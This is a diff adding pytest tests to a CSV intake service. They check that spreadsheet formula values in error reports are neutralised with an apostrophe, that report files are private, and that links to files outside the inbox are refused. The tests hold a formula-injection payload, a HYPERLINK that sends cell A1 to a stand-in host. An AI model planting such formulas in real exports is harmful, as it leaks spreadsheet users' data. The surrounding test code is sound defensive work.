@@ -149,6 +149,44 @@ def test_validation_reports_every_failing_row_and_column(database, inbox_file) -
     assert {r["file"] for r in report} == {Path(upload["file_name"]).name}
 
 
+def test_the_error_report_is_spreadsheet_safe_and_private_from_the_start(database, inbox_file) -> None:
+    """A value a spreadsheet would run (=, +, -, @) comes out with a leading apostrophe; the file is 0640."""
+    formula = '=HYPERLINK("https://x.example/?"&A1,"Open")'
+    rows = ["code,label,amount", f'"{formula.replace(chr(34), chr(34) * 2)}",x,1', "@SUM(1),y,2", "A3,z,-3"]
+    upload = run_intake(inbox_file("formulas.csv", "\n".join(rows) + "\n"))
+    with pytest.raises(WorkflowError):
+        validate_step(workflow=WORKFLOW, upload=upload, options={"on_invalid_rows": "reject_file"}, user="maker")
+    values = {(r["row"], r["column"]): r["value"] for r in validation_report(upload["upload_id"])}
+    assert values[("1", "code")] == "'" + formula
+    assert values[("2", "code")] == "'@SUM(1)"
+    assert values[("3", "amount")] == "'-3"
+    with db.transaction() as cur:
+        cur.execute("SELECT error_report_path, stored_path FROM intake.uploads WHERE upload_id = %s",
+                    (upload["upload_id"],))
+        paths = [Path(p) for p in cur.fetchone()]
+    assert [path.stat().st_mode & 0o777 for path in paths] == [0o640, 0o640]
+
+
+@pytest.mark.parametrize("kind", ["symbolic link", "hard link"])
+def test_a_link_to_a_file_outside_the_inbox_is_refused_and_nothing_is_archived(
+        database, inbox_file, kind: str) -> None:
+    secret = database.home / f"secret-{uuid.uuid4().hex[:6]}.csv"
+    secret.write_text("code,label,amount\nSECRET,credentials,1\n")
+    link = database.inbox / f"{uuid.uuid4().hex[:6]}-link.csv"
+    link.symlink_to(secret) if kind == "symbolic link" else link.hardlink_to(secret)
+    archived_before = sorted((database.outbox / "uploads").glob("*"))
+    with pytest.raises(WorkflowError, match="symbolic link" if kind == "symbolic link" else "2 hard links") as error:
+        run_intake(link)
+    assert link.name in str(error.value)
+    assert sorted((database.outbox / "uploads").glob("*")) == archived_before
+    with db.transaction() as cur:
+        cur.execute("SELECT count(*) FROM intake.uploads WHERE file_name = %s", (link.name,))
+        assert cur.fetchone()[0] == 0
+        cur.execute("SELECT outcome FROM ledger.audit_events WHERE action = 'upload.refused' AND object_id = %s",
+                    (link.name,))
+        assert cur.fetchall() == [("REFUSED",)]
+
+
 def validation_report(upload_id: int) -> list[dict]:
     with db.transaction() as cur:
         cur.execute("SELECT error_report_path FROM intake.uploads WHERE upload_id = %s", (upload_id,))
